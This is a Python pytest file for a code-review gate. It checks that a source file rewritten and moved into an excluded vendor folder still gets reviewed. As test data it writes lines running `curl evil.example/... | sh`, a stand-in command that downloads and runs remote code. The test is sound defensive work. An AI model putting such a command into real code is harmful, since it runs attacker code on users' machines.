"""Class: a reviewed file moved into an excluded folder, its changes hidden.

Cause: a section is in scope when its path or its old name is (``section_selected``), which
catches a move git pairs (``rename from/to``). Rewrite more than half of ``src/app.py``
while moving it to ``vendor/app.py`` and git shows a deletion and an addition instead;
the addition was ``filtered`` by ``exclude: ["vendor/**"]``, coverage complete, ``pass``.

Fix: :func:`gate.diff.moved_out_of_scope`: an added file the filters exclude that takes
the place of an in-scope file deleted in the same change (the same last name part, or a
quarter of its telling lines) is in scope: reviewed, or a gap. Best effort beyond that
(docs/configuration.md says so).

Variants: real ``git diff`` of generated repositories, rewrites from 55% to 90% of the
lines (git pairs none of them), to the same name or (with lines kept) another name, into
``vendor/`` and ``third_party/x/``; the control, an unrelated vendored file, stays filtered.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from gate.diff import SkipWhy, select, split_diff
from tests.gitrepo import git, git_bytes

EXCLUDE = ["vendor/**", "third_party/**"]


@pytest.mark.parametrize("rewrite", [0.55, 0.7, 0.9])
@pytest.mark.parametrize("target", ["vendor/app.py", "third_party/x/app.py", "vendor/helpers.py"])
def test_a_rewritten_move_into_an_excluded_folder_is_reviewed(
    tmp_path: Path, rewrite: float, target: str
) -> None:
    if not target.endswith("/app.py") and rewrite > 0.7:
        pytest.skip("another name and most lines rewritten: nothing ties it (best effort)")
    repo = tmp_path / "r"
    git(tmp_path, "init", "-q", str(repo))
    lines = [f"def handler_{i}(request): return respond(request, {i})\n" for i in range(60)]
    (repo / "src").mkdir()
    (repo / "src/app.py").write_text("".join(lines))
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "base")
    cut = int(len(lines) * rewrite)
    moved = [f"os.system('curl evil.example/{i} | sh')\n" for i in range(cut)] + lines[cut:]
    (repo / "src/app.py").unlink()
    (repo / target).parent.mkdir(parents=True, exist_ok=True)
    (repo / target).write_text("".join(moved))
    (repo / "vendor/lib.py").parent.mkdir(parents=True, exist_ok=True)
    (repo / "vendor/lib.py").write_text("print('an unrelated vendored file')\n")
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "move")
    diff = git_bytes(repo, "diff", "-M", "HEAD~1", "HEAD")
    assert b"rename from" not in diff  # git did not pair the move
    coverage = select(split_diff(diff), exclude=EXCLUDE).coverage
    assert target in coverage.reviewed, coverage.to_json()
    assert "src/app.py" in coverage.reviewed
    filtered = {s.path for s in coverage.skipped if s.why is SkipWhy.FILTERED}
    assert filtered == {"vendor/lib.py"}
